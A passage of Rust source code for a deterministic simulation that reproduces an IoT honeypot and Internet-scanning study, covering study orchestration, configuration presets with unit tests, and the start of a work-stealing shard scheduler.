        leaked += s.leaked_state();
    }
    let sonar = sonar_id
        .map(|id| extract_results(&mut net, id, &mut resilience, &mut leaked))
        .unwrap_or_else(|| ScanResults::new("Project Sonar"));
    let shodan = shodan_id
        .map(|id| extract_results(&mut net, id, &mut resilience, &mut leaked))
        .unwrap_or_else(|| ScanResults::new("Shodan"));

    let mut conns_shed: u64 = 0;
    let mut logs = Vec::with_capacity(6);
    {
        let h = net.agent_downcast_mut::<HosTaGeHoneypot>(hostage_id).expect("hostage");
        conns_shed += h.shed_connections();
        logs.push(std::mem::take(&mut h.log).events);
    }
    {
        let h = net.agent_downcast_mut::<UPotHoneypot>(upot_id).expect("upot");
        conns_shed += h.shed_connections();
        logs.push(std::mem::take(&mut h.log).events);
    }
    {
        let h = net.agent_downcast_mut::<ConpotHoneypot>(conpot_id).expect("conpot");
        conns_shed += h.shed_connections();
        logs.push(std::mem::take(&mut h.log).events);
    }
    {
        let h = net.agent_downcast_mut::<ThingPotHoneypot>(thingpot_id).expect("thingpot");
        conns_shed += h.shed_connections();
        logs.push(std::mem::take(&mut h.log).events);
    }
    {
        let h = net.agent_downcast_mut::<CowrieHoneypot>(cowrie_id).expect("cowrie");
        conns_shed += h.shed_connections();
        logs.push(std::mem::take(&mut h.log).events);
    }
    {
        let h = net.agent_downcast_mut::<DionaeaHoneypot>(dionaea_id).expect("dionaea");
        conns_shed += h.shed_connections();
        logs.push(std::mem::take(&mut h.log).events);
    }
    // Exclude our own measurement infrastructure (the scanning host and
    // the fingerprint prober) from the attack dataset — the paper's
    // pipeline likewise discounts its own probes.
    let own_infra: std::collections::BTreeSet<Ipv4Addr> = (0..4u32)
        .map(|i| Ipv4Addr::from(scanner_base + i))
        .collect();
    for log in &mut logs {
        log.retain(|e| !own_infra.contains(&e.src));
    }
    let telescope = std::mem::replace(
        net.tap_downcast_mut::<Telescope>(telescope_tap)
            .expect("telescope tap"),
        Telescope::new(GeoDb::new()),
    );

    profile.push_child(phase_sw.leaf("extract"));
    profile.wall_ns = shard_sw.elapsed().as_nanos() as u64;

    if let Some(lp) = &inputs.live {
        lp.mark_done(spec.index);
        ofh_obs::live::set_cell(None);
    }

    ShardOutput {
        zmap,
        sonar,
        shodan,
        fingerprint,
        logs,
        telescope,
        counters: net.counters(),
        resilience,
        conns_shed,
        leaked,
        obs: obs_guard.map(|g| g.finish()),
        profile,
    }
}

fn extract_results(
    net: &mut SimNet,
    id: AgentId,
    resilience: &mut ofh_scan::ScanResilience,
    leaked: &mut u64,
) -> ScanResults {
    let s = net.agent_downcast_mut::<Scanner>(id).expect("scanner agent");
    resilience.absorb(&s.resilience);
    *leaked += s.leaked_state();
    s.results.clone()
}

/// Ground-truth-free helper used by tests: build just the population.
pub fn population_for(cfg: &StudyConfig) -> Population {
    PopulationBuilder::new(PopulationSpec {
        universe: cfg.universe,
        scale: cfg.scan_scale,
        seed: cfg.seed,
    })
    .build()
}

/// Export used by report rendering.
pub fn country_name(c: Country) -> &'static str {
    c.name()
}
