//! The orchestrator.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;

use ofh_analysis::events::AttackDataset;
use ofh_analysis::figures::{AttackTypeBreakdown, Fig2, Fig3, Fig5, Fig6, Fig8, Fig9};
use ofh_analysis::infected::InfectedHosts;
use ofh_analysis::table10::Table10;
use ofh_analysis::table12::Table12;
use ofh_analysis::table13::Table13;
use ofh_analysis::table4::Table4;
use ofh_analysis::table5::Table5;
use ofh_analysis::table7::Table7;
use ofh_attack::plan::{AttackPlan, HoneypotSet, PlanConfig};
use ofh_attack::{AttackerAgent, InfectedDevice};
use ofh_devices::population::{Population, PopulationBuilder, PopulationSpec};
use ofh_fingerprint::{engine, FingerprintProber, SignatureDb};
use ofh_honeypots::{
    ConpotHoneypot, CowrieHoneypot, DionaeaHoneypot, HosTaGeHoneypot, ThingPotHoneypot,
    UPotHoneypot, WildHoneypot, WildHoneypotAgent,
};
use ofh_intel::Country;
use ofh_net::rng::rng_for;
use ofh_net::{AgentId, SimNet, SimNetConfig, SimTime};
use ofh_scan::{datasets, scan_start, Scanner, ScannerConfig};
use ofh_telescope::{Telescope, TelescopeSummary};
use rand::Rng;

use crate::config::StudyConfig;
use crate::oracles::Oracles;
use crate::report::StudyReport;

/// A configured study, ready to run.
pub struct Study {
    cfg: StudyConfig,
}

impl Study {
    /// Create a study. Panics on invalid configuration (configs are code,
    /// not user input).
    pub fn new(cfg: StudyConfig) -> Study {
        cfg.validate().expect("invalid study configuration");
        Study { cfg }
    }

    pub fn config(&self) -> &StudyConfig {
        &self.cfg
    }

    /// Execute the full methodology and compute every report.
    pub fn run(&self) -> StudyReport {
        self.run_with(|_| {})
    }

    /// Like [`Self::run`], reporting phase transitions to `progress` (the
    /// long presets take a minute; callers may want a heartbeat).
    pub fn run_with(&self, mut progress: impl FnMut(&str)) -> StudyReport {
        let cfg = &self.cfg;
        let universe = cfg.universe;
        let mut rng = rng_for(cfg.seed, "study");

        // ---- 1. Populations -------------------------------------------
        progress("synthesizing population");
        let mut population = PopulationBuilder::new(PopulationSpec {
            universe,
            scale: cfg.scan_scale,
            seed: cfg.seed,
        })
        .build();

        // Wild honeypots, geo-distributed like devices (Table 6 counts).
        let mut wild: Vec<(Ipv4Addr, WildHoneypot)> = Vec::new();
        for family in WildHoneypot::ALL {
            let n = ((family.paper_count() + cfg.scan_scale / 2) / cfg.scan_scale).max(1);
            for _ in 0..n {
                let (addr, _) = population
                    .allocator
                    .alloc_weighted(&mut rng)
                    .expect("space for wild honeypots");
                wild.push((addr, family));
            }
        }

        // ---- 2. Attack plan and oracles --------------------------------
        progress("building attack plan and oracles");
        let honeypots = HoneypotSet::in_lab(&universe);
        let plan_cfg = PlanConfig {
            seed: cfg.seed,
            hp_scale: cfg.hp_scale,
            infected_scale: (cfg.scan_scale / cfg.infected_oversample).max(1),
            universe,
            month_start: cfg.month_start(),
            month_days: cfg.month_days,
            honeypots,
        };
        let plan = AttackPlan::build(&plan_cfg, &population);
        let oracles = Oracles::populate(cfg.seed, &plan, &population);

        // Extend the geo database over the attacker space so telescope
        // records carry source countries for those actors too.
        let mut geo = population.geo.clone();
        let attacker_space = universe.attacker_space();
        let chunk = 1u64 << (32 - geo.prefix_len());
        let mut a = u32::from(attacker_space.first()) as u64;
        while a <= u32::from(attacker_space.last()) as u64 {
            let country = ofh_devices::population::sample_country(&mut rng);
            geo.allocate_block(Ipv4Addr::from(a as u32), country, 64_000 + rng.gen_range(0..400));
            a += chunk;
        }

        // ---- 3. Wire up the simulated Internet -------------------------
        progress("attaching agents");
        let mut net = SimNet::new(SimNetConfig {
            seed: cfg.seed,
            fault: cfg.fault,
            ..SimNetConfig::default()
        });
        let telescope_tap = net.add_tap(
            universe.dark_space(),
            Box::new(Telescope::new(geo.clone())),
        );

        // Devices — infected ones get their bot schedules.
        let mut infected_tasks: BTreeMap<usize, Vec<ofh_attack::Task>> = BTreeMap::new();
        for inf in plan.infected.iter().chain(&plan.censys_extra) {
            infected_tasks
                .entry(inf.record_idx)
                .or_default()
                .extend(inf.tasks.iter().cloned());
        }
        for (i, record) in population.records.iter().enumerate() {
            let agent = record.build_agent();
            match infected_tasks.remove(&i) {
                Some(tasks) => {
                    net.attach(record.addr, Box::new(InfectedDevice::new(agent, tasks)));
                }
                None => {
                    net.attach(record.addr, agent);
                }
            }
        }
        for &(addr, family) in &wild {
            net.attach(addr, Box::new(WildHoneypotAgent::new(family)));
        }

        // Deployed honeypots.
        let hostage_id = net.attach(honeypots.hostage, Box::new(HosTaGeHoneypot::new()));
        let upot_id = net.attach(honeypots.upot, Box::new(UPotHoneypot::new()));
        let conpot_id = net.attach(honeypots.conpot, Box::new(ConpotHoneypot::new()));
        let thingpot_id = net.attach(honeypots.thingpot, Box::new(ThingPotHoneypot::new()));
        let cowrie_id = net.attach(honeypots.cowrie, Box::new(CowrieHoneypot::new()));
        let dionaea_id = net.attach(honeypots.dionaea, Box::new(DionaeaHoneypot::new()));

        // Attackers.
        for actor in &plan.actors {
            net.attach(actor.addr, Box::new(AttackerAgent::new(actor.tasks.clone())));
        }

        // Scanners (ours + the dataset providers).
        let scanner_base = u32::from(universe.scanner_addr());
        let zmap_cfgs: Vec<ScannerConfig> = ofh_wire::Protocol::SCANNED
            .iter()
            .map(|&p| {
                ScannerConfig::full(
                    p,
                    universe.cidr().first(),
                    universe.size(),
                    scan_start(p),
                    cfg.seed ^ 0x5A4D_4150,
                )
            })
            .collect();
        let scan_end = zmap_cfgs
            .iter()
            .map(Scanner::estimated_end)
            .max()
            .expect("six sweeps");
        let zmap_id = net.attach(
            Ipv4Addr::from(scanner_base),
            Box::new(Scanner::new("ZMap Scan", zmap_cfgs)),
        );
        let (sonar_id, shodan_id) = if cfg.run_dataset_providers {
            let sonar = Scanner::new(
                "Project Sonar",
                datasets::sonar_configs(
                    universe.cidr().first(),
                    universe.size(),
                    SimTime::ZERO,
                    cfg.seed,
                ),
            );
            let shodan = Scanner::new(
                "Shodan",
                datasets::shodan_configs(
                    universe.cidr().first(),
                    universe.size(),
                    SimTime::ZERO,
                    cfg.seed,
                ),
            );
            (
                Some(net.attach(Ipv4Addr::from(scanner_base + 1), Box::new(sonar))),
                Some(net.attach(Ipv4Addr::from(scanner_base + 2), Box::new(shodan))),
            )
        } else {
            (None, None)
        };

        // ---- 4. Scan phase (March) -------------------------------------
        progress("running the March scan campaign");
        net.run_until(scan_end);
        let zmap_results = net
            .agent_downcast_mut::<Scanner>(zmap_id)
            .expect("zmap scanner")
            .results
            .clone();

        // ---- 5. Fingerprint phase --------------------------------------
        progress("fingerprinting honeypot candidates");
        let signature_db = SignatureDb::new();
        let candidates = engine::passive_candidates(&signature_db, &zmap_results);
        let candidate_count = candidates.len();
        let prober_id = net.attach(
            Ipv4Addr::from(scanner_base + 3),
            Box::new(FingerprintProber::new(candidates)),
        );
        net.run_until(net.now() + FingerprintProber::estimated_duration(candidate_count));

        // ---- 6. Honeypot month (April) ----------------------------------
        progress("running the April honeypot month");
        net.run_until(cfg.study_end());

        // ---- 7. Extraction ----------------------------------------------
        let fingerprint_report = net
            .agent_downcast_mut::<FingerprintProber>(prober_id)
            .expect("prober")
            .report
            .clone();
        let sonar_results = sonar_id
            .map(|id| extract_results(&mut net, id))
            .unwrap_or_else(|| ofh_scan::ScanResults::new("Project Sonar"));
        let shodan_results = shodan_id
            .map(|id| extract_results(&mut net, id))
            .unwrap_or_else(|| ofh_scan::ScanResults::new("Shodan"));

        let mut logs = vec![
            std::mem::take(&mut net.agent_downcast_mut::<HosTaGeHoneypot>(hostage_id).expect("hostage").log).events,
            std::mem::take(&mut net.agent_downcast_mut::<UPotHoneypot>(upot_id).expect("upot").log).events,
            std::mem::take(&mut net.agent_downcast_mut::<ConpotHoneypot>(conpot_id).expect("conpot").log).events,
            std::mem::take(&mut net.agent_downcast_mut::<ThingPotHoneypot>(thingpot_id).expect("thingpot").log).events,
            std::mem::take(&mut net.agent_downcast_mut::<CowrieHoneypot>(cowrie_id).expect("cowrie").log).events,
            std::mem::take(&mut net.agent_downcast_mut::<DionaeaHoneypot>(dionaea_id).expect("dionaea").log).events,
        ];
        // Exclude our own measurement infrastructure (the scanning host and
        // the fingerprint prober) from the attack dataset — the paper's
        // pipeline likewise discounts its own probes.
        let own_infra: std::collections::BTreeSet<Ipv4Addr> = (0..4u32)
            .map(|i| Ipv4Addr::from(scanner_base + i))
            .collect();
        for log in &mut logs {
            log.retain(|e| !own_infra.contains(&e.src));
        }
        let dataset = AttackDataset::merge(logs);
        let telescope = std::mem::replace(
            net.tap_downcast_mut::<Telescope>(telescope_tap)
                .expect("telescope tap"),
            Telescope::new(ofh_intel::GeoDb::new()),
        );

        // ---- 8. Analysis -------------------------------------------------
        progress("computing tables and figures");
        let honeypot_filter = fingerprint_report.filter_set();
        let table4 = Table4::compute(&zmap_results, &sonar_results, &shodan_results);
        let table5 = Table5::compute(&zmap_results, &honeypot_filter);
        let misconfigured = Table5::misconfigured_addrs(&zmap_results, &honeypot_filter);
        let table7 = Table7::compute(&dataset, &oracles.rdns);
        let month_start_day = cfg.month_start().day_index();
        let known_scanners: std::collections::BTreeSet<Ipv4Addr> = plan
            .service_sources()
            .keys()
            .copied()
            .filter(|a| ofh_analysis::AttackDataset::is_scanning_service(&oracles.rdns, *a))
            .collect();
        let table8 = TelescopeSummary::compute(
            &telescope,
            month_start_day,
            month_start_day + cfg.month_days,
            &known_scanners,
        );
        let table10 = Table10::compute(&misconfigured, &geo);
        let table12 = Table12::compute(&dataset, 11);
        let table13 = Table13::compute(&dataset, &oracles.malware);
        let fig2 = Fig2::compute(&zmap_results);
        let fig3 = Fig3::compute(&dataset, &oracles.rdns);
        let breakdown = AttackTypeBreakdown::compute(&dataset);
        let fig5 = Fig5::compute(&dataset, &oracles.rdns, &oracles.greynoise);
        let fig6 = Fig6::compute(&dataset, &telescope, &oracles.rdns, &oracles.virustotal);
        let fig8 = Fig8::compute(&dataset, cfg.month_start(), cfg.month_days, &plan.listings);
        let fig9 = Fig9::compute(&dataset, &oracles.rdns);
        let infected = InfectedHosts::compute(
            &misconfigured,
            &dataset,
            &telescope,
            &oracles.virustotal,
            &oracles.censys,
            &oracles.rdns,
        );

        StudyReport {
            config: cfg.clone(),
            table4,
            table5,
            fingerprint: fingerprint_report,
            table7,
            table8,
            table10,
            table12,
            table13,
            fig2,
            fig3,
            breakdown,
            fig5,
            fig6,
            fig8,
            fig9,
            infected,
            dataset,
            telescope,
            zmap_results,
            population_size: population.records.len(),
            wild_honeypot_count: wild.len(),
            counters: net.counters(),
        }
    }
}

fn extract_results(net: &mut SimNet, id: AgentId) -> ofh_scan::ScanResults {
    net.agent_downcast_mut::<Scanner>(id)
        .expect("scanner agent")
        .results
        .clone()
}

/// Ground-truth-free helper used by tests: build just the population.
pub fn population_for(cfg: &StudyConfig) -> Population {
    PopulationBuilder::new(PopulationSpec {
        universe: cfg.universe,
        scale: cfg.scan_scale,
        seed: cfg.seed,
    })
    .build()
}

/// Export used by report rendering.
pub fn country_name(c: Country) -> &'static str {
    c.name()
}
