//! # ofh-core (`openforhire`) — the full-study orchestrator
//!
//! The public API of the reproduction. A [`Study`] wires every subsystem
//! together and executes the paper's methodology end to end on one
//! deterministic simulated Internet:
//!
//! 1. **Population** — synthesize the IoT device population (Tables 4/5/10
//!    marginals) and the wild-honeypot population (Table 6);
//! 2. **Scan** (March 1–5, Table 9) — ZMap-style sweeps of six protocols,
//!    plus the Project Sonar and Shodan dataset providers;
//! 3. **Fingerprint** — passive signature matching + active static-response
//!    probes; filter detected honeypots from the scan results;
//! 4. **Honeypot month** (April) — six deployed honeypots face the attack
//!    population: botnets, scanning services, DoS, poisoning, multistage,
//!    infected devices;
//! 5. **Telescope** — the dark-space tap records FlowTuples all along;
//! 6. **Analysis** — every table/figure is computed from the measured
//!    datasets and threat-intel oracles.
//!
//! ```no_run
//! use ofh_core::{Study, StudyConfig};
//!
//! let report = Study::new(StudyConfig::quick(7)).run();
//! println!("{}", report.render_summary());
//! ```

pub mod config;
pub mod oracles;
pub mod report;
pub mod scheduler;
pub mod study;

pub use config::{faults_from_arg, PopulationMode, StudyConfig};
pub use scheduler::ShardScheduler;
pub use report::{ResilienceReport, StudyReport};
pub use study::Study;

// Re-export the observability layer (the `--metrics-out` / `--trace-out`
// machinery) alongside the component crates.
pub use ofh_obs as obs;

// Re-export the component crates under one roof for downstream users.
pub use ofh_analysis as analysis;
pub use ofh_attack as attack;
pub use ofh_devices as devices;
pub use ofh_fingerprint as fingerprint;
pub use ofh_honeypots as honeypots;
pub use ofh_intel as intel;
pub use ofh_net as net;
pub use ofh_scan as scan;
pub use ofh_telescope as telescope;
pub use ofh_wire as wire;
