//! Study configuration and scale presets.

use std::net::Ipv4Addr;

use ofh_devices::Universe;
use ofh_net::{FaultSchedule, SimDuration, SimTime};
use serde::{Deserialize, Serialize};

/// How device hosts come to exist inside each shard's simulation.
///
/// Both modes produce byte-identical reports (the equivalence suite in
/// `tests/parallel_determinism.rs` pins this): device agents are boot-inert
/// and their state is a pure function of the generation record, so whether
/// an agent is allocated up front or on first touch is unobservable. The
/// mode is therefore a pure execution knob, excluded from the serialized
/// config like `workers`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum PopulationMode {
    /// Streaming population: non-infected devices and wild honeypots live in
    /// a struct-of-arrays arena and materialize as agents only when traffic
    /// first reaches them (`ofh_net::HostSpawner`). The only mode that is
    /// feasible at paper scale.
    #[default]
    Implicit,
    /// Every owned host is attached eagerly at shard start — the original
    /// behaviour, retained as the differential baseline.
    Eager,
}

/// Configuration of a full study run.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct StudyConfig {
    /// Master seed: same seed ⇒ identical report.
    pub seed: u64,
    /// The simulated Internet's address plan.
    pub universe: Universe,
    /// Scale divisor for the scan-side population (Tables 4/5/6/10 counts
    /// and the §5.3 infected set).
    pub scan_scale: u64,
    /// Scale divisor for honeypot-month traffic (Table 7 volumes, source
    /// pools, Fig. 3–9 data).
    pub hp_scale: u64,
    /// Length of the honeypot deployment (the paper: 30 days of April).
    pub month_days: u64,
    /// Network fault model: a scripted schedule of fault phases (empty
    /// schedule = pristine network).
    #[serde(default)]
    pub faults: FaultSchedule,
    /// Run the Sonar and Shodan dataset sweeps (Table 4's extra columns).
    pub run_dataset_providers: bool,
    /// Oversampling factor for the §5.3 infected set: infected counts are
    /// divided by `scan_scale / infected_oversample` instead of
    /// `scan_scale`. At heavy scan scales the paper-faithful proportion
    /// (11,118 of 1.8M ≈ 0.6%) rounds the infected set down to ~1 host and
    /// the overlap structure (honeypot-only / telescope-only / both)
    /// vanishes; oversampling keeps the *structure* measurable while the
    /// proportion is noted in EXPERIMENTS.md. Use 1 for strict proportions.
    pub infected_oversample: u64,
    /// Number of deterministic shards the address space is split into: any
    /// power of two in `1..=4096` (`ofh_net::MAX_SHARDS`). This is a
    /// *simulation parameter* (a semantic knob): changing it changes the
    /// (equally valid) trace, so it is serialized with the config — unlike
    /// `workers`, which must never appear in any output. Presets pick a
    /// default; `--shards` overrides it.
    pub shards: u32,
    /// Worker threads executing shards. Pure execution knob: any value
    /// (including 0 = one thread per available core) produces the identical
    /// report, so it is excluded from the serialized config.
    #[serde(skip)]
    pub workers: usize,
    /// Observability settings (metrics, tracing, self-profiling). Also a
    /// pure execution knob — enabling or disabling observability must not
    /// perturb any RNG stream or golden output — so it too stays out of the
    /// serialized config.
    #[serde(skip)]
    pub obs: ofh_obs::ObsConfig,
    /// Host materialization strategy (see [`PopulationMode`]). A pure
    /// execution knob: implicit and eager runs print identical bytes.
    #[serde(skip)]
    pub population: PopulationMode,
    /// Name of the preset this config was built from — run identity for
    /// artifacts (the snapshot's `preset` field, the trace header). Not
    /// serialized with the config: it names the constructor, it does not
    /// configure anything, and two configs differing only in provenance
    /// must stay byte-identical.
    #[serde(skip)]
    pub preset: String,
}

impl StudyConfig {
    /// Quick preset: small universe, heavy scaling — seconds in debug
    /// builds. Used by tests and the quickstart example.
    pub fn quick(seed: u64) -> StudyConfig {
        StudyConfig {
            seed,
            universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 16),
            scan_scale: 8_192,
            hp_scale: 256,
            month_days: 30,
            faults: FaultSchedule::none(),
            run_dataset_providers: true,
            infected_oversample: 32,
            shards: 16,
            workers: 1,
            obs: ofh_obs::ObsConfig::default(),
            population: PopulationMode::Implicit,
            preset: "quick".into(),
        }
    }

    /// Standard preset: the examples' default — a 2^20-address Internet,
    /// ~14k exposed devices, a few minutes in release builds.
    pub fn standard(seed: u64) -> StudyConfig {
        StudyConfig {
            seed,
            universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 20),
            scan_scale: 1_024,
            hp_scale: 32,
            month_days: 30,
            faults: FaultSchedule::none(),
            run_dataset_providers: true,
            infected_oversample: 8,
            shards: 16,
            workers: 1,
            obs: ofh_obs::ObsConfig::default(),
            population: PopulationMode::Implicit,
            preset: "standard".into(),
        }
    }

    /// Full preset: the EXPERIMENTS.md run — a 2^22-address Internet,
    /// ~225k exposed devices, 1:64 scan scale, 1:8 honeypot scale.
    pub fn full(seed: u64) -> StudyConfig {
        StudyConfig {
            seed,
            universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 22),
            scan_scale: 64,
            hp_scale: 8,
            month_days: 30,
            faults: FaultSchedule::none(),
            run_dataset_providers: true,
            infected_oversample: 1,
            shards: 16,
            workers: 1,
            obs: ofh_obs::ObsConfig::default(),
            population: PopulationMode::Implicit,
            preset: "full".into(),
        }
    }

    /// Paper-scale preset: the full 2^32 IPv4 address space with over a
    /// million occupied hosts (scan scale 1:14 of the paper's 14.4M exposed
    /// population). Only viable with the streaming population and the
    /// indexed scan-target mode (both engage automatically); minutes in
    /// release builds with all cores.
    pub fn paper_scale(seed: u64) -> StudyConfig {
        StudyConfig {
            seed,
            universe: Universe::new(Ipv4Addr::new(0, 0, 0, 0), 32),
            scan_scale: 14,
            hp_scale: 8,
            month_days: 30,
            faults: FaultSchedule::none(),
            run_dataset_providers: true,
            infected_oversample: 1,
            // 64 shards so the 2^32 run keeps speeding up past 16 cores;
            // per-shard fixed costs stay negligible against >1M hosts.
            shards: 64,
            workers: 0,
            obs: ofh_obs::ObsConfig::default(),
            population: PopulationMode::Implicit,
            preset: "paper-scale".into(),
        }
    }

    /// Paper-smoke preset: the same 2^32 address plan as
    /// [`Self::paper_scale`] — every paper-scale code path (streaming hosts,
    /// indexed sweeps, 32-bit offsets) — but down-sampled to quick-preset
    /// scales so CI can cover it in seconds.
    pub fn paper_smoke(seed: u64) -> StudyConfig {
        StudyConfig {
            scan_scale: 16_384,
            hp_scale: 256,
            infected_oversample: 32,
            workers: 1,
            preset: "paper-smoke".into(),
            ..StudyConfig::paper_scale(seed)
        }
    }

    /// The honeypot month starts April 1 (simulation day 31).
    pub fn month_start(&self) -> SimTime {
        SimTime::from_date(ofh_net::SimDate::new(2021, 4, 1))
    }

    /// End of the whole experiment.
    pub fn study_end(&self) -> SimTime {
        self.month_start() + SimDuration::from_days(self.month_days) + SimDuration::from_hours(6)
    }

    /// Resolved worker-thread count: `workers` capped at the shard count
    /// (extra threads would idle). `0` means auto: `min(host cores,
    /// shards)` — never more threads than cores, since past that point
    /// extra workers only add scheduler contention (BENCH_scaling.json
    /// records the flat curve on a 1-core host).
    pub fn worker_threads(&self) -> usize {
        let requested = if self.workers == 0 {
            std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1)
        } else {
            self.workers
        };
        requested.min(self.shards.max(1) as usize).max(1)
    }

    /// Sanity-check the configuration.
    pub fn validate(&self) -> Result<(), String> {
        self.faults.validate()?;
        if self.scan_scale == 0 || self.hp_scale == 0 || self.infected_oversample == 0 {
            return Err("scales must be nonzero".into());
        }
        if self.shards == 0 || self.shards > ofh_net::MAX_SHARDS || !self.shards.is_power_of_two() {
            return Err(format!(
                "shards must be a power of two in 1..={} (got {})",
                ofh_net::MAX_SHARDS,
                self.shards
            ));
        }
        if self.month_days == 0 || self.month_days > 30 {
            return Err("month_days must be in 1..=30".into());
        }
        // The population must fit the universe.
        let exposed: u64 = ofh_wire::Protocol::SCANNED
            .iter()
            .map(|&p| ofh_devices::population::paper_exposed(p) / self.scan_scale)
            .sum();
        let (_, pop_len) = self.universe.population_space();
        if exposed * 2 > pop_len {
            return Err(format!(
                "population ({exposed} hosts) would overflow the universe's \
                 population region ({pop_len} addresses); increase universe \
                 bits or scan_scale"
            ));
        }
        Ok(())
    }
}

/// Resolve a `--faults` argument into a validated schedule: a named preset
/// (`none`, `lossy`, `hostile`) or a path to a JSON schedule file. A bad
/// name, unreadable file, or invalid schedule fails here — at startup, with
/// a message naming the problem — rather than mid-run.
pub fn faults_from_arg(arg: &str) -> Result<FaultSchedule, String> {
    let schedule = match FaultSchedule::by_name(arg) {
        Some(s) => s,
        None => {
            let text = std::fs::read_to_string(arg).map_err(|e| {
                format!(
                    "--faults: `{arg}` is not a preset (none|lossy|hostile) and \
                     could not be read as a schedule file: {e}"
                )
            })?;
            serde_json::from_str(&text)
                .map_err(|e| format!("--faults: `{arg}` is not a valid fault schedule: {e}"))?
        }
    };
    schedule
        .validate()
        .map_err(|e| format!("--faults: invalid schedule in `{arg}`: {e}"))?;
    Ok(schedule)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn presets_validate() {
        StudyConfig::quick(1).validate().unwrap();
        StudyConfig::standard(1).validate().unwrap();
        StudyConfig::full(1).validate().unwrap();
        StudyConfig::paper_scale(1).validate().unwrap();
        StudyConfig::paper_smoke(1).validate().unwrap();
    }

    #[test]
    fn paper_presets_span_whole_ipv4() {
        let cfg = StudyConfig::paper_scale(1);
        assert_eq!(cfg.universe.size(), 1u64 << 32);
        assert_eq!(cfg.population, PopulationMode::Implicit);
        // The occupied population must clear the paper-scale bar (≥1M).
        let exposed: u64 = ofh_wire::Protocol::SCANNED
            .iter()
            .map(|&p| ofh_devices::population::paper_exposed(p) / cfg.scan_scale)
            .sum();
        assert!(exposed >= 1_000_000, "only {exposed} hosts at paper scale");
        // The smoke preset keeps the address plan but not the cost.
        let smoke = StudyConfig::paper_smoke(1);
        assert_eq!(smoke.universe, cfg.universe);
        assert!(smoke.scan_scale > cfg.scan_scale * 100);
    }

    #[test]
    fn shard_counts_must_be_powers_of_two() {
        let mut cfg = StudyConfig::quick(1);
        for ok in [1u32, 2, 4, 64, 1024, 4096] {
            cfg.shards = ok;
            cfg.validate().unwrap();
        }
        for bad in [0u32, 3, 17, 48, 4097, 8192] {
            cfg.shards = bad;
            let err = cfg.validate().unwrap_err();
            assert!(err.contains("power of two"), "unhelpful error: {err}");
        }
        // The paper-scale preset rides the elastic partition at 64.
        assert_eq!(StudyConfig::paper_scale(1).shards, 64);
        assert_eq!(StudyConfig::paper_smoke(1).shards, 64);
    }

    #[test]
    fn month_starts_april_first() {
        let cfg = StudyConfig::quick(1);
        assert_eq!(cfg.month_start().day_index(), 31);
        assert!(cfg.study_end() > cfg.month_start());
    }

    #[test]
    fn worker_threads_resolution() {
        let mut cfg = StudyConfig::quick(1);
        assert_eq!(cfg.worker_threads(), 1);
        cfg.workers = 64; // capped at the shard count
        assert_eq!(cfg.worker_threads(), 16);
        // Auto (0) resolves to exactly min(host cores, shards): on a
        // 1-core host that is 1 worker no matter the shard count.
        let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
        cfg.workers = 0;
        assert_eq!(cfg.worker_threads(), cores.min(16));
        cfg.shards = 2; // shards below the core count cap auto too
        assert_eq!(cfg.worker_threads(), cores.min(2));
        cfg.shards = 0;
        assert!(cfg.validate().is_err());
    }

    #[test]
    fn workers_not_serialized() {
        // Byte-identical reports for any worker count requires the
        // execution knob to stay out of the serialized config.
        let mut a = StudyConfig::quick(1);
        let mut b = StudyConfig::quick(1);
        a.workers = 1;
        b.workers = 8;
        b.obs = ofh_obs::ObsConfig::disabled();
        assert_eq!(
            serde_json::to_string(&a).unwrap(),
            serde_json::to_string(&b).unwrap()
        );
    }

    #[test]
    fn bad_fault_schedule_rejected_at_load() {
        use ofh_net::FaultPlan;
        let mut cfg = StudyConfig::quick(1);
        cfg.faults = FaultSchedule::uniform(FaultPlan {
            drop_chance: 1.5,
            ..FaultPlan::NONE
        });
        let err = cfg.validate().unwrap_err();
        assert!(err.contains("drop_chance"), "unhelpful error: {err}");
    }

    #[test]
    fn faults_from_arg_resolves_presets_and_files() {
        assert!(faults_from_arg("none").unwrap().is_none());
        assert!(!faults_from_arg("lossy").unwrap().is_none());
        assert!(!faults_from_arg("hostile").unwrap().is_none());
        let err = faults_from_arg("/nonexistent/schedule.json").unwrap_err();
        assert!(err.contains("not a preset"), "unhelpful error: {err}");

        let path = std::env::temp_dir().join("ofh_faults_from_arg_test.json");
        std::fs::write(&path, r#"{"phases":[{"name":"loss","plan":{"drop_chance":0.2}}]}"#)
            .unwrap();
        let s = faults_from_arg(path.to_str().unwrap()).unwrap();
        assert_eq!(s.phases.len(), 1);
        // An out-of-range probability in the file is caught at startup.
        std::fs::write(&path, r#"{"phases":[{"plan":{"drop_chance":2.0}}]}"#).unwrap();
        let err = faults_from_arg(path.to_str().unwrap()).unwrap_err();
        assert!(err.contains("invalid schedule"), "unhelpful error: {err}");
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn overflowing_population_rejected() {
        let cfg = StudyConfig {
            scan_scale: 1, // full 14M population into a 2^16 universe
            ..StudyConfig::quick(1)
        };
        assert!(cfg.validate().is_err());
    }
}
