//! Work-stealing shard scheduler.
//!
//! Shards are deliberately *uneven*: hash partitioning balances host counts
//! in expectation, but at paper scale the exposed-host density — and with it
//! a shard's event count — varies enough that a static assignment leaves the
//! join waiting on one straggling worker. The previous scheduler (a global
//! `AtomicU32` index dispenser) already balanced dynamically, but handed out
//! shards one at a time from a single shared counter: no locality (adjacent
//! shards — which share population cache lines in the read-only inputs —
//! scatter across workers) and one contended cache line ticking for every
//! shard of a 4096-way partition.
//!
//! This scheduler gives each worker a deque seeded with a **contiguous
//! block** of shard indices. A worker drains its own deque from the front;
//! when empty it picks the sibling with the largest backlog and steals the
//! **back half in one lock acquisition** — a chunked steal of whole shards,
//! so a straggler is relieved of O(half its backlog) per steal instead of
//! being raced one index at a time.
//!
//! Which worker executes which shard is scheduling-dependent and therefore
//! nondeterministic — that is fine, and tested to be invisible: every shard
//! is a pure function of `(inputs, spec)` and the study re-sorts outputs by
//! shard index before merging (`tests/scaling_determinism.rs` pins
//! byte-identical reports across worker counts and across repeated
//! work-stealing runs).

use std::collections::VecDeque;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

/// Scheduler state shared by the shard workers of one study run.
